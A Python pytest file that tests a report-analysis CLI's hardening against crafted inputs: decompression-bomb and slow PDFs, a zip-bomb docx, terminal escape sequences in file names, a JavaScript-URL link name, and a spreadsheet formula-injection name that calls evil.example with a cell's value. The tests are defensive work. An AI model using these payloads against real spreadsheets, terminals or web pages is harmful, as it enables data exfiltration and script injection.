"""Issue 16 through the real CLI: `ksb analyse` under limits, and `ksb batch` outputs no file name can subvert.

- ``ksb analyse`` runs the analysis in a worker process under --timeout and --max-memory-mb: a
  decompression-bomb PDF and a slow PDF exit 3 with one line saying which limit stopped them; a
  good report gives the same output as before (the golden files).
- ``ksb batch`` over hostile names writes all its cohort views: no formula cell in cohort.csv,
  errors.csv or cohort.xlsx, no link in cohort.html that is not a page the batch wrote, a report
  named cohort.md keeps its own page, control characters never reach the terminal raw, and
  --resume writes a missing page again.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import time
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest

from golden_outputs import GOLDEN, SAMPLE, normalise_json
from hardening_factory import HOSTILE_NAMES, bomb_pdf, report_text, slow_pdf

TRACEBACK = "Traceback (most recent call last)"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
COHORT_VIEWS = ("cohort.csv", "cohort.xlsx", "cohort-heatmap.png", "cohort.html", "errors.csv")


def ksb(*args: str, cwd: Path, timeout: float = 600) -> tuple[subprocess.CompletedProcess, float]:
    """Run the real CLI in a new process; (result, wall seconds)."""
    script = Path(sys.executable).with_name("ksb")
    command = [str(script)] if script.exists() else [sys.executable, "-m", "analyser"]
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "PYTHONPATH": str(Path(__file__).resolve().parent.parent)}
    started = time.monotonic()
    result = subprocess.run([*command, *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=timeout, check=False)
    return result, time.monotonic() - started


def one_line(stderr: str) -> str:
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert TRACEBACK not in stderr
    assert len(lines) == 1, stderr
    return lines[0]


@pytest.fixture(scope="module")
def crafted(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("crafted")
    (folder / "bomb.pdf").write_bytes(bomb_pdf())
    (folder / "slow.pdf").write_bytes(slow_pdf())
    return folder


# ----------------------------------------------------------------------------------------
# ksb analyse: limits
# ----------------------------------------------------------------------------------------


def test_analyse_stops_a_decompression_bomb_at_the_memory_cap(crafted: Path) -> None:
    result, seconds = ksb("analyse", "bomb.pdf", cwd=crafted)
    assert result.returncode == 3
    line = one_line(result.stderr)
    assert line.startswith("error: bomb.pdf: ran out of memory (limit 1024 MB): it needed more than 1024 MB")
    assert "--max-memory-mb" in line and result.stdout == ""
    assert seconds < 60


def test_analyse_stops_a_slow_pdf_at_the_time_limit(crafted: Path) -> None:
    result, seconds = ksb("analyse", "slow.pdf", "--timeout", "5", cwd=crafted)
    assert result.returncode == 3
    assert one_line(result.stderr) == (
        "error: slow.pdf: took longer than 5 s and was stopped; the file may be damaged or crafted: "
        "open it and save it again, or raise the limit with --timeout"
    )
    assert seconds < 30


def test_analyse_in_a_worker_prints_what_it_printed_before(tmp_path: Path) -> None:
    """The worker does the work; the output is the golden one, byte for byte."""
    result, _ = ksb("analyse", str(SAMPLE), "--format", "json", cwd=tmp_path)
    assert result.returncode == 0 and result.stderr == ""
    assert normalise_json(json.loads(result.stdout)) == (GOLDEN / "sample.docx.json").read_text(encoding="utf-8")
    text, _ = ksb("analyse", str(SAMPLE), cwd=tmp_path)
    assert text.returncode == 0 and text.stdout == (GOLDEN / "sample.docx.txt").read_text(encoding="utf-8")


def test_analyse_errors_keep_their_line_and_status(tmp_path: Path) -> None:
    result, _ = ksb("analyse", "missing.docx", cwd=tmp_path)
    assert result.returncode == 3 and one_line(result.stderr) == "error: missing.docx: file not found; check the path"
    (tmp_path / "r.md").write_text(report_text())
    unknown, _ = ksb("analyse", "r.md", "--scheme", "nope", cwd=tmp_path)
    assert unknown.returncode == 2 and one_line(unknown.stderr).startswith("error: unknown scheme 'nope'")
    low, _ = ksb("analyse", "r.md", "--max-memory-mb", "256", cwd=tmp_path)
    assert low.returncode == 3 and "ran out of memory (limit 256 MB)" in one_line(low.stderr)


def test_analyse_shows_control_characters_in_a_name_escaped(tmp_path: Path) -> None:
    name = "esc\x1b]0;retitled\x07.docx"
    (tmp_path / name).write_bytes(b"")
    result, _ = ksb("analyse", name, cwd=tmp_path)
    assert result.returncode == 3
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "esc\\x1b]0;retitled\\x07.docx: empty file" in one_line(result.stderr)


# ----------------------------------------------------------------------------------------
# ksb batch: names that stay names
# ----------------------------------------------------------------------------------------


class Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        href = dict(attrs).get("href")
        if tag == "a" and href is not None:
            self.links.append(href)


def control_member_docx(path: Path) -> Path:
    """The sample .docx with a zip member whose name holds a control character and 11 MB of zeros."""
    with zipfile.ZipFile(SAMPLE) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info))
        target.writestr("word/media/\x01image1.png", b"\0" * 11_000_000)
    return path


@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, subprocess.CompletedProcess]:
    folder = tmp_path_factory.mktemp("hostile")
    for name in HOSTILE_NAMES:
        (folder / name).write_text(report_text(name))
    control_member_docx(folder / "control\x1b[2Jmember.docx")
    result, _ = ksb("batch", ".", "-o", "out", "--jobs", "1", cwd=folder)
    return folder / "out", result


def test_batch_with_hostile_names_writes_every_cohort_view(hostile_batch: tuple[Path, subprocess.CompletedProcess]) -> None:
    outdir, result = hostile_batch
    assert result.returncode == 1 and TRACEBACK not in result.stderr
    for view in COHORT_VIEWS:
        assert (outdir / view).is_file(), view
    assert "\x1b" not in result.stderr and "\x01" not in result.stderr  # names and reasons shown escaped
    assert "control\\x1b[2Jmember.docx" in result.stderr


def test_no_cell_from_a_file_name_is_a_formula(hostile_batch: tuple[Path, subprocess.CompletedProcess]) -> None:
    import openpyxl

    outdir, _ = hostile_batch
    for table in ("cohort.csv", "errors.csv"):
        with (outdir / table).open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_START)], table
        assert all(ch.isprintable() or ch in "\n" for cell in cells for ch in cell), table
    sheet = openpyxl.load_workbook(outdir / "cohort.xlsx")["cohort"]
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in values if cell.data_type == "f"]
    assert not [cell.value for cell in values if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START)]
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    files = [row[header.index("file")].value for row in sheet.iter_rows(min_row=2)]  # learner comes first (issue 13)
    assert "'=HYPERLINK(\"http:__evil.example_?x=\"&B2,\"Open\").md" in files  # shown as the text it is
    with (outdir / "errors.csv").open(encoding="utf-8") as handle:
        (failure,) = list(csv.DictReader(handle))
    assert failure["file"].endswith("member.docx") and "suspected zip bomb" in failure["reason"]


def test_cohort_page_links_only_to_pages_the_batch_wrote(hostile_batch: tuple[Path, subprocess.CompletedProcess]) -> None:
    outdir, _ = hostile_batch
    parser = Links()
    parser.feed((outdir / "cohort.html").read_text(encoding="utf-8"))
    assert len(parser.links) == len(HOSTILE_NAMES)
    for link in parser.links:
        parts = urlsplit(link)
        assert (parts.scheme, parts.netloc, parts.query, parts.fragment) == ("", "", "", ""), link
        assert "/" not in parts.path and (outdir / unquote(parts.path)).is_file(), link
    assert "javascript%3Aalert(document.domain).html" in parser.links


def test_a_report_named_cohort_keeps_its_own_page(hostile_batch: tuple[Path, subprocess.CompletedProcess]) -> None:
    outdir, _ = hostile_batch
    assert (outdir / "cohort.md.json").is_file() and (outdir / "cohort.md.html").is_file()
    assert "<h1>Cohort:" in (outdir / "cohort.html").read_text(encoding="utf-8")
    assert json.loads((outdir / "cohort.md.json").read_text(encoding="utf-8"))["source"]["path"].endswith("cohort.md")


def test_resume_writes_a_missing_page_again(tmp_path: Path) -> None:
    (tmp_path / "a.md").write_text(report_text("A"))
    (tmp_path / "b.md").write_text(report_text("B"))
    first, _ = ksb("batch", "a.md", "b.md", "-o", "out", "--jobs", "1", cwd=tmp_path)
    assert first.returncode == 0
    page = (tmp_path / "out" / "a.html").read_text(encoding="utf-8")
    (tmp_path / "out" / "a.html").unlink()
    again, _ = ksb("batch", "a.md", "b.md", "-o", "out", "--jobs", "1", "--resume", cwd=tmp_path)
    assert again.returncode == 0 and "(1 unchanged, skipped)" in again.stderr
    assert (tmp_path / "out" / "a.html").read_text(encoding="utf-8") == page
